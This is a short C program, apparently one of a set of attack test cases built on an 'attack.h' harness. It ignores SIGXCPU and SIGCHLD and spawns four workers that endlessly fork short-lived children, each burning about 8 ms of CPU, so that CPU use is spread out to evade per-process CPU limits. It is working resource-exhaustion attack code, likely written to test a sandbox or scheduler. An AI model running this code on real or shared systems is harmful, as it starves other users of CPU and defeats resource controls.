#include "attack.h"

int main(void)
{
	START;
	signal(SIGXCPU, SIG_IGN);
	signal(SIGCHLD, SIG_IGN);
	for (int i = 0; i < 4; i++) {
		if (fork())
			continue;
		for (;;) {
			if (!fork()) {
				struct timespec t;
				do
					clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t);
				while (t.tv_nsec < 8000000 && !t.tv_sec);
				_exit(0);
			}
			usleep(6000);
		}
	}
	for (;;)
		pause();
}
